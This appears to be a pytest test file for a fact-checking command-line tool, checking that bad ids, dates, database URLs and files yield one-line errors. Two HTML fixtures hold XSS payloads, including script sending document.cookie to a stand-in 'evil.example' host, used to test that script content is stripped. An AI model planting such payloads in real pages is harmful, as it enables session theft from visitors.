"""User mistakes and bad input: one line on stderr, exit 1, no traceback, nothing written."""

from __future__ import annotations

from pathlib import Path

import pytest
from sqlalchemy import create_engine, func, select, text

from factcheck import db as database
from factcheck.models import Base

ARTICLE = (
    "Lakeside Ferry Company fares will rise by 12 percent in spring, the company said on "
    "Tuesday. Passenger groups dispute the figure: “Fuel is cheaper than last year,” said "
    "a spokesperson for the Lakeside Riders Association. The company reportedly posted a "
    "profit. The company said fares had not risen since 2019."
)


def assert_one_line_error(result, *fragments: str) -> None:
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("error: "), lines[0]
    for fragment in fragments:
        assert fragment in lines[0], lines[0]


def row_counts(url: str) -> dict[str, int]:
    """Rows in every factcheck table, to prove a failed command wrote nothing."""
    engine = create_engine(url)
    try:
        with engine.connect() as connection:
            return {
                name: connection.scalar(select(func.count()).select_from(table))
                for name, table in Base.metadata.tables.items()
            }
    finally:
        engine.dispose()


@pytest.fixture
def ledger(ledger, db_url) -> dict[str, int]:
    """One article with one claim (the ledger builder); the row counts it leaves."""
    article = ledger.article(ARTICLE, filename="ferry.txt")
    ledger.claim(article, "Passenger groups dispute the figure")
    return row_counts(db_url)


# --- unknown ids -------------------------------------------------------------------------------

UNKNOWN_IDS = [
    (["claims", "show", "999"], "no claim with id 999"),
    (["claims", "edit", "999", "--text", "x"], "no claim with id 999"),
    (["claims", "add", "999", "--quote", "fares"], "no article"),
    (["claims", "list", "--article", "999"], "no article"),
    (["review", "999", "--status", "false", "--note", "n"], "no claim with id 999"),
    (["evidence", "add", "999", "--stance", "refutes", "--url", "https://example.org/x"], "999"),
    (["link", "999", "1", "--relation", "denies"], "no claim with id 999"),
    (["link", "1", "999", "--relation", "denies"], "no claim with id 999"),
    (["history", "999"], "no claim with id 999"),
    (["sources", "show", "999"], "no source"),
    (["sources", "show", "Nobody Of That Name"], "no source"),
    (["sources", "alias", "Nobody Of That Name", "Someone"], "no source"),
    (["articles", "show", "999"], "no article"),
]


@pytest.mark.parametrize(("args", "fragment"), UNKNOWN_IDS, ids=lambda v: " ".join(v[:2]))
def test_unknown_id_is_one_line_and_writes_nothing(cli, db_url, ledger, args, fragment):
    assert_one_line_error(cli(*args), fragment)
    assert row_counts(db_url) == ledger


ODD_VALUES = [
    pytest.param(["articles", "show", "²"], id="articles show superscript digit"),
    pytest.param(["sources", "show", "²"], id="sources show superscript digit"),
    # Beyond PostgreSQL's INTEGER: must be "not found", not a database DataError.
    pytest.param(["claims", "show", "3000000000"], id="claims show id beyond INTEGER"),
    pytest.param(
        ["review", "3000000000", "--status", "false", "--note", "n"], id="review id beyond INTEGER"
    ),
    pytest.param(["articles", "show", "3000000000"], id="articles show id beyond INTEGER"),
    # SQLite reads LIMIT -1 as "no limit"; PostgreSQL refuses it: both must refuse it alike.
    pytest.param(["claims", "list", "--limit", "-1"], id="claims list negative limit"),
    pytest.param(["claims", "list", "--offset", "-5"], id="claims list negative offset"),
]


@pytest.mark.parametrize("args", ODD_VALUES)
def test_odd_id_or_paging_value_is_refused_without_traceback(cli, db_url, ledger, args):
    result = cli(*args)  # an uncaught exception propagates here (catch_exceptions=False)
    assert result.exit_code != 0, result.output
    assert "Traceback" not in result.output
    assert row_counts(db_url) == ledger


# --- names outside the vocabulary, malformed dates, other refusals --------------------------

BAD_VALUES = [
    (["review", "1", "--status", "true-ish", "--note", "n"], "unknown status"),
    (["claims", "list", "--status", "bogus"], "unknown status"),
    (["claims", "add", "1", "--quote", "fares", "--attribution", "whispered"], "attribution"),
    (["claims", "edit", "1", "--attribution", "whispered"], "unknown attribution"),
    (["claims", "list", "--attribution", "whispered"], "unknown attribution"),
    (["evidence", "add", "1", "--stance", "agrees", "--url", "https://e.org"], "unknown stance"),
    (["link", "1", "1", "--relation", "hates"], "unknown relation"),
    (
        [
            "evidence",
            "add",
            "1",
            "--stance",
            "refutes",
            "--url",
            "https://e.org",
            "--accessed",
            "2024-02-30",
        ],
        "--accessed",
    ),
    (
        [
            "evidence",
            "add",
            "1",
            "--stance",
            "refutes",
            "--url",
            "https://e.org",
            "--accessed",
            "last week",
        ],
        "YYYY-MM-DD",
    ),
    (["claims", "add", "1", "--quote", "fares fell by half"], "not found"),
    (["claims", "add", "1", "--quote", "The company", "--occurrence", "9"], "--occurrence"),
    (["claims", "add", "1", "--quote", "   "], "empty"),
    (["claims", "edit", "1", "--text", "x", "--if-version", "7"], "retry"),
    (["claims", "edit", "1"], "nothing to change"),
    (["review", "1", "--status", "false", "--note", "  "], "note"),
    (["evidence", "add", "1", "--stance", "refutes"], "--url or --reference"),
]


@pytest.mark.parametrize(("args", "fragment"), BAD_VALUES, ids=lambda v: " ".join(v[:3]))
def test_bad_value_is_one_line_and_writes_nothing(cli, db_url, ledger, args, fragment):
    assert_one_line_error(cli(*args), fragment)
    assert row_counts(db_url) == ledger


@pytest.mark.parametrize("published", ["2024-13-01", "yesterday", "2024/01/05", "31-01-2024"])
def test_malformed_published_date_is_refused_before_anything_is_stored(
    cli, db_url, tmp_path, published
):
    path = tmp_path / "ferry.txt"
    path.write_text(ARTICLE, encoding="utf-8")
    before = row_counts(db_url)
    assert_one_line_error(
        cli("articles", "add", str(path), "--published", published), "--published"
    )
    assert row_counts(db_url) == before


# --- database state -------------------------------------------------------------------------


def test_uninitialised_database_says_run_init(cli, tmp_path, monkeypatch):
    empty = tmp_path / "empty.db"
    empty.touch()
    monkeypatch.setenv("FACTCHECK_DB", f"sqlite:///{empty}")
    for args in (["claims", "list"], ["review", "1", "--status", "false", "--note", "n"]):
        assert_one_line_error(cli(*args), "not initialised", "factcheck init")
    assert row_counts_or_none(f"sqlite:///{empty}") is None


def row_counts_or_none(url: str) -> dict[str, int] | None:
    """None when the database has no factcheck tables at all."""
    engine = create_engine(url)
    try:
        with engine.connect() as connection:
            names = {row[0] for row in connection.execute(text("SELECT name FROM sqlite_master"))}
    finally:
        engine.dispose()
    return row_counts(url) if names else None


def test_database_newer_than_the_code_is_refused(cli, db_url):
    engine = create_engine(db_url)
    with engine.begin() as connection:
        connection.execute(text("UPDATE alembic_version SET version_num = '9999_from_the_future'"))
    engine.dispose()
    for args in (
        ["claims", "list"],
        ["review", "1", "--status", "false", "--note", "n"],
        ["init"],
        ["db", "upgrade"],
    ):
        assert_one_line_error(cli(*args), "9999_from_the_future", "newer than this factcheck")
    database.get_engine(db_url).dispose()


@pytest.mark.parametrize(
    ("url", "fragment"),
    [
        # a plain path names a SQLite file: a missing one is refused, not created
        ("no-such-folder/ledger.db", "no database file no-such-folder/ledger.db"),
        ("nosuchdialect://host/db", "cannot use the database URL"),
        ("postgresql+psycopg://nobody@127.0.0.1:1/none", "cannot open the database"),
    ],
)
def test_unusable_database_url_is_one_line(cli, monkeypatch, url, fragment):
    monkeypatch.setenv("FACTCHECK_DB", url)
    assert_one_line_error(cli("claims", "list"), fragment)


def test_database_url_password_is_not_printed(cli, monkeypatch):
    monkeypatch.setenv("FACTCHECK_DB", "postgresql+psycopg://editor:s3cret-pw@127.0.0.1:1/none")
    result = cli("claims", "list")
    assert_one_line_error(result, "cannot open the database")
    assert "s3cret-pw" not in result.output


# --- file contents (factcheck/documents.py), through `articles add` -----------------------------


@pytest.fixture
def documents():
    return pytest.importorskip("factcheck.documents", reason="factcheck/documents.py not there yet")


def _write(tmp_path: Path, name: str, content: bytes) -> Path:
    path = tmp_path / name
    path.write_bytes(content)
    return path


BAD_FILES = [
    ("latin1.txt", "Caf\xe9 owners on the quay said rents doubled.".encode("latin-1"), "UTF-8"),
    ("empty.txt", b"", "empty"),
    ("blank.md", b"  \n\n\t \n", "empty"),
    ("photo.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)), "binary"),
    ("report.pdf", b"%PDF-1.7\n", "unsupported file type"),
    (
        "scripts.html",
        b"<html><head><script>document.location='https://evil.example/'+document.cookie"
        b'</script><style>p{display:none}</style></head><body onload="alert(1)">'
        + b"<script>for(;;){}</script><div onclick='x()'></div>" * 300
        + b"</body></html>",
        "no article text",
    ),
]


@pytest.mark.parametrize(("name", "content", "fragment"), BAD_FILES, ids=[f[0] for f in BAD_FILES])
def test_bad_file_is_one_line_and_stores_nothing(
    cli, db_url, tmp_path, documents, name, content, fragment
):
    path = _write(tmp_path, name, content)
    before = row_counts(db_url)
    assert_one_line_error(cli("articles", "add", str(path)), name, fragment)
    assert row_counts(db_url) == before


def test_file_over_the_size_limit_is_refused_without_reading_it(cli, db_url, tmp_path, documents):
    path = tmp_path / "huge.txt"
    with path.open("wb") as handle:  # sparse: the size is what counts, not the bytes
        handle.truncate(documents.MAX_BYTES + 1)
    before = row_counts(db_url)
    assert_one_line_error(cli("articles", "add", str(path)), "huge.txt", "limit")
    assert row_counts(db_url) == before


def test_missing_file_is_one_line(cli, db_url, tmp_path, documents):
    before = row_counts(db_url)
    assert_one_line_error(cli("articles", "add", str(tmp_path / "gone.txt")), "gone.txt")
    assert row_counts(db_url) == before


HOSTILE_PAGE = """<!doctype html><html><head><title>Ferry fares to rise</title>
<script>window.location='https://evil.example/'+document.cookie</script>
<style>body{display:none}</style></head>
<body onload="alert('pwned')"><script>for(;;){}</script>
<article><h1>Ferry fares to rise</h1>
<p>The Lakeside Ferry Company said on Tuesday that fares would rise by 12 percent in spring,
citing fuel costs that it described as the highest in a decade.</p>
<script>document.write('<p>Injected paragraph</p>'); fetch('https://evil.example/x')</script>
<p onclick="steal()">Passenger groups dispute the figure. "Fuel is cheaper than last year,"
a spokesperson for the Lakeside Riders Association said.</p>
<iframe src="javascript:alert(1)"></iframe>
<img src=x onerror="alert(2)">
</article></body></html>
"""


def test_html_with_scripts_keeps_the_article_text_and_none_of_the_code(
    cli, db_url, tmp_path, documents
):
    path = _write(tmp_path, "ferry.html", HOSTILE_PAGE.encode("utf-8"))
    assert cli("articles", "add", str(path)).exit_code == 0
    engine = create_engine(db_url)
    with engine.connect() as connection:
        stored = connection.scalar(text("SELECT text FROM articles"))
    engine.dispose()
    assert "fares would rise by 12 percent" in stored
    for code in ("<script", "alert(", "document.", "evil.example", "Injected paragraph", "onclick"):
        assert code not in stored


def test_page_whose_only_text_is_a_noscript_notice_is_refused(cli, db_url, tmp_path, documents):
    page = (
        b"<html><head><script>alert(1)</script></head><body><script>var x = 1;</script>"
        b"<noscript>Please enable JavaScript to view this site.</noscript></body></html>"
    )
    path = _write(tmp_path, "app.html", page)
    before = row_counts(db_url)
    assert_one_line_error(cli("articles", "add", str(path)), "no article text")
    assert row_counts(db_url) == before
